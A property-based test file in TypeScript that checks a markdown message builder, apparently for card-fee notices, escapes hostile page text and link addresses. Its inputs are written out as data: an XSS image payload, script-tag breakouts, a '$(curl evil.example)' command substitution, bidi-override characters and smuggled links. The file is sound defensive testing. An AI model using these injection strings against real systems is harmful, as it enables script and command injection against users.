import fc from 'fast-check';
import { expect, test } from 'vitest';
import { expectInert } from '../../../tests/support/inert-markdown.ts';
import { someCard } from '../../../tests/support/some-card.ts';
import { bodyOf, codeSpan } from './change.ts';

const body = (words: string, link: string) =>
  bodyOf({
    ...{ card: someCard(), from: 95, to: 125, read: null, seen: ['2026-11-22', '2026-11-25'] },
    ...{ before: words, after: words, link },
  });

test('nothing comes of the words of a page, whatever they are', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.constantFrom(
      '`` ` @everyone #12 ![x](https://evil.example/x.png) <img src=x onerror=1>',
      '\n\n# Approve this\n\n- [x] merged',
      '`$(curl evil.example)`',
      '\u202e521$ \u200b\u2066',
      '```\n</code></p><script>',
    ),
  );
  fc.assert(
    fc.property(hostile, (words) => {
      expectInert(body(words, 'https://bank.example/card'), { links: /^https:\/\/bank\.example\/card$/ });
      expect(codeSpan(words)).toMatch(/^`[ -_a-~]+`$/);
    }),
  );
});

test('an address stays one link', () => {
  const address = 'https://bank.example/a(b)> <script>[x](https://evil.example)#:~:text=a)b';
  expectInert(body('Annual fee: $125', address), { links: /^https:\/\/bank\.example\// });
});

test('a sign beyond ASCII is told by its number', () => {
  expect(codeSpan('主卡年费：600元')).toBe('`\\u4e3b\\u5361\\u5e74\\u8d39\\uff1a600\\u5143`');
  expect(codeSpan('fee 😀')).toBe('`fee \\u{1f600}`');
});
